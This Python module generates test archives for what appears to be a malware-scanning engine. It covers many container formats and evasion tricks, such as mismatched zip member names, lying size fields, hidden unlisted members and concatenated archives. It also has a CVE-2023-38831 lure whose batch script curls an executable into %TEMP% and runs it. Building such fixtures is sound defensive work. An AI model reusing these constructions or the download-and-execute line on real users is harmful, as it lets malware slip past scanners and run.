"""Archives and compressed files, well made and badly made, with something harmful inside."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

import py7zr
from backports import zstd

from app.engine.model import Verdict
from app.sandbox import samples
from tests.corpus.payloads import payload
from tests.corpus.registry import technique
from tests.corpus.sample import Draw, File
from tests.corpus.wrapping import beside, seven_zip
from tests.unit.engine.test_archive_ar import ar, member
from tests.unit.engine.test_archive_cab import STORED, cab
from tests.unit.engine.test_archive_cpio import member as cpio_member
from tests.unit.engine.test_archive_rar import rar4, rar5
from tests.unit.engine.test_compressed_own import compress, lz4, lz4_legacy, lzip


def zipped(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a zip whose members are packed by this method."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 3, 4, 5, 6, 8)), content, method)
    return buffer.getvalue()


@technique("archive.zip")
def _zip(draw: Draw, harmful: bool) -> File:
    return File(f"{draw.stem()}.zip", zipped(beside(draw, payload(draw, harmful))))


@technique("archive.zip_other_methods")
def _zip_methods(draw: Draw, harmful: bool) -> File:
    method = draw.rng.choice((zipfile.ZIP_STORED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA))
    return File(f"{draw.stem()}.zip", zipped(beside(draw, payload(draw, harmful)), method))


@technique("archive.zip_with_other_extension")
def _zip_renamed(draw: Draw, harmful: bool) -> File:
    ending = draw.one("dat", "tmp", "txt", "bin", "jpg")
    return File(f"{draw.stem()}.{ending}", zipped(beside(draw, payload(draw, harmful))))


@technique("archive.zip_names_that_differ", most=Verdict.SUSPICIOUS)
def _zip_two_names(draw: Draw, harmful: bool) -> File:
    """The central list calls the member a text; programs that go from header to header see its other name."""
    made = payload(draw, harmful)
    decoy = f"{draw.word()}.txt".ljust(len(made.name), "_")[: len(made.name.encode())]
    content = zipped({made.name: made.content})
    at = content.rindex(made.name.encode())
    other = decoy.encode().ljust(len(made.name.encode()), b"_")
    return File(f"{draw.stem()}.zip", content[:at] + other + content[at + len(other) :])


@technique("archive.zip_sizes_that_lie", most=Verdict.SUSPICIOUS)
def _zip_lying(draw: Draw, harmful: bool) -> File:
    made = payload(draw, harmful)
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packed.compress(made.content) + packed.flush()
    declared, name = draw.rng.choice((0, 7, len(made.content) * 3)), made.name.encode()
    sizes = struct.pack("<III", zlib.crc32(made.content), len(body), declared)
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0x6A21, 0x5A61) + sizes
    local += struct.pack("<HH", len(name), 0) + name + body
    central = b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0x6A21, 0x5A61) + sizes
    central += struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)
    return File(f"{draw.stem()}.zip", local + central + end)


@technique("archive.zip_without_its_end", most=Verdict.SUSPICIOUS, partial=True)
def _zip_cut(draw: Draw, harmful: bool) -> File:
    content = zipped({payload(draw, False).name: b"read me", **beside(draw, payload(draw, harmful))})
    return File(f"{draw.stem()}.zip", content[: content.index(b"PK\x01\x02")])


@technique("archive.zip_behind_a_zip", most=Verdict.SUSPICIOUS)
def _zip_concatenated(draw: Draw, harmful: bool) -> File:
    """Two archives in one file: which one is shown depends on the program."""
    first = zipped({f"{draw.stem()}.txt": draw.prose().encode()})
    second = zipped(beside(draw, payload(draw, harmful)))
    return File(f"{draw.stem()}.zip", first + second if draw.rng.random() < 0.5 else second + first)


@technique("archive.zip_behind_other_bytes", most=Verdict.SUSPICIOUS)
def _zip_prefixed(draw: Draw, harmful: bool) -> File:
    return File(f"{draw.stem()}.zip", draw.noise(40, 4_000) + zipped(beside(draw, payload(draw, harmful))))


@technique("archive.zip_before_other_bytes", most=Verdict.SUSPICIOUS)
def _zip_followed(draw: Draw, harmful: bool) -> File:
    return File(f"{draw.stem()}.zip", zipped(beside(draw, payload(draw, harmful))) + draw.noise(40, 4_000))


@technique("archive.zip_of_unknown_members", most=Verdict.SUSPICIOUS, partial=True)
def _zip_not_listed(draw: Draw, harmful: bool) -> File:
    """A member that the central list leaves out; programs that read a stream still unpack it."""
    hidden = zipped(beside(draw, payload(draw, harmful)))
    hidden = hidden[: hidden.index(b"PK\x01\x02")]
    shown = bytearray(zipped({f"{draw.stem()}.txt": draw.prose().encode()}))
    at = shown.rindex(b"PK\x05\x06")
    start = struct.unpack_from("<I", shown, at + 16)[0]
    struct.pack_into("<I", shown, start + 42, len(hidden))
    struct.pack_into("<I", shown, at + 16, start + len(hidden))
    return File(f"{draw.stem()}.zip", hidden + bytes(shown))


@technique("archive.7z")
def _seven_zip(draw: Draw, harmful: bool) -> File:
    filters = draw.rng.choice(
        (
            [{"id": py7zr.FILTER_LZMA2, "preset": 0}],
            [{"id": py7zr.FILTER_BZIP2}],
            [{"id": py7zr.FILTER_DEFLATE}],
            [{"id": py7zr.FILTER_X86}, {"id": py7zr.FILTER_LZMA2, "preset": 0}],
        )
    )
    return File(f"{draw.stem()}.7z", seven_zip(beside(draw, payload(draw, harmful)), filters=filters))


@technique("archive.rar_stored")
def _rar(draw: Draw, harmful: bool) -> File:
    made, make = payload(draw, harmful), draw.rng.choice((rar4, rar5))
    return File(f"{draw.stem()}.rar", make(made.content, name=made.name))


@technique("archive.tar")
def _tar(draw: Draw, harmful: bool) -> File:
    buffer = io.BytesIO()
    form = draw.rng.choice((tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT))
    with tarfile.open(fileobj=buffer, mode="w", format=form) as archive:
        for name, content in beside(draw, payload(draw, harmful)).items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return File(f"{draw.stem()}.tar", buffer.getvalue())


def _packed_tar(draw: Draw, harmful: bool) -> bytes:
    return samples.tar_of(beside(draw, payload(draw, harmful)), compressed=False)


@technique("archive.tar_packed")
def _tar_packed(draw: Draw, harmful: bool) -> File:
    content, stem = _packed_tar(draw, harmful), draw.stem()
    ending = draw.one("tgz", "tar.gz", "tar.bz2", "tar.xz", "tar.zst", "tar.Z", "tar.lz4", "tar.lz")
    packers: dict[str, Callable[[bytes], bytes]] = {
        "bz2": bz2.compress,
        "xz": lzma.compress,
        "zst": zstd.compress,
        "Z": compress,
        "lz4": lz4,
        "lz": lzip,
    }
    return File(f"{stem}.{ending}", packers.get(ending.removeprefix("tar."), gzip.compress)(content))


def _one_file(name: str, ending: str, pack: Callable[[bytes], bytes]) -> None:
    def make(draw: Draw, harmful: bool) -> File:
        made = payload(draw, harmful)
        return File(f"{made.name}.{ending}", pack(made.content))

    technique(name)(make)


_one_file("compressed.gzip", "gz", gzip.compress)
_one_file("compressed.bzip2", "bz2", bz2.compress)
_one_file("compressed.xz", "xz", lzma.compress)
_one_file("compressed.lzma", "lzma", lambda content: lzma.compress(content, lzma.FORMAT_ALONE))
_one_file("compressed.zstandard", "zst", zstd.compress)
_one_file("compressed.lz4", "lz4", lz4)
_one_file("compressed.lz4_legacy", "lz4", lz4_legacy)
_one_file("compressed.lzip", "lz", lzip)
_one_file("compressed.compress", "Z", compress)


@technique("compressed.gzip_second_member")
def _second_member(draw: Draw, harmful: bool) -> File:
    made = payload(draw, harmful)
    first = gzip.compress(b"") if draw.rng.random() < 0.5 else gzip.compress(made.content[:3])
    rest = made.content if first == gzip.compress(b"") else made.content[3:]
    return File(f"{made.name}.gz", first + gzip.compress(rest))


@technique("archive.cab")
def _cab(draw: Draw, harmful: bool) -> File:
    files = {name.replace("/", "\\"): content for name, content in beside(draw, payload(draw, harmful)).items()}
    return File(f"{draw.stem()}.cab", cab(files) if draw.rng.random() < 0.5 else cab(files, STORED))


@technique("archive.ar_and_deb")
def _deb(draw: Draw, harmful: bool) -> File:
    made = payload(draw, harmful)
    if draw.rng.random() < 0.4:
        return File(f"{draw.word()}.a", ar(member(made.name.replace(" ", "_").encode()[:15] + b"/", made.content)))
    pack, ending = draw.rng.choice(((gzip.compress, b"gz"), (lzma.compress, b"xz"), (zstd.compress, b"zst")))
    data = pack(samples.tar_of({f"./opt/{draw.word()}/{made.name}": made.content}, compressed=False))
    control = pack(samples.tar_of({"./control": f"Package: {draw.word()}\n".encode()}, compressed=False))
    parts = (b"debian-binary", b"2.0\n"), (b"control.tar." + ending, control), (b"data.tar." + ending, data)
    return File(f"{draw.word()}_1.0_amd64.deb", ar(*(member(name, content) for name, content in parts)))


@technique("archive.cpio_and_rpm")
def _cpio(draw: Draw, harmful: bool) -> File:
    made = payload(draw, harmful)
    name = f"./opt/{draw.word()}/{made.name}".encode("ascii", "replace")
    content = cpio_member("new", name, made.content) + cpio_member("new", b"TRAILER!!!", b"", 0)
    if draw.rng.random() < 0.5:
        return File(f"{draw.stem()}.cpio", content)
    section = b"\x8e\xad\xe8\x01" + bytes(4) + struct.pack(">II", 1, 5) + bytes(16) + bytes(5)
    lead = b"\xed\xab\xee\xdb".ljust(96, b"\0") + section + bytes(3) + section
    return File(f"{draw.word()}-1.0.x86_64.rpm", lead + draw.rng.choice((gzip.compress, zstd.compress))(content))


@technique("archive.folder_and_file_of_one_name", most=Verdict.SUSPICIOUS)
def _one_name(draw: Draw, harmful: bool) -> File:
    """A double click on the picture starts the script of the folder that has its name (CVE-2023-38831)."""
    shown = f"{draw.stem()}.{draw.one('jpg', 'pdf', 'png')}"
    script = f"@echo off\r\nstart /b curl -s {draw.url('exe')} -o %TEMP%\\a.exe & %TEMP%\\a.exe\r\n".encode()
    files = {f"{shown} ": draw.noise(200, 400), f"{shown} /{shown} .cmd": script}
    return File(f"{draw.stem()}.zip", zipped(files if harmful else {shown: samples.png(30, 20)}))
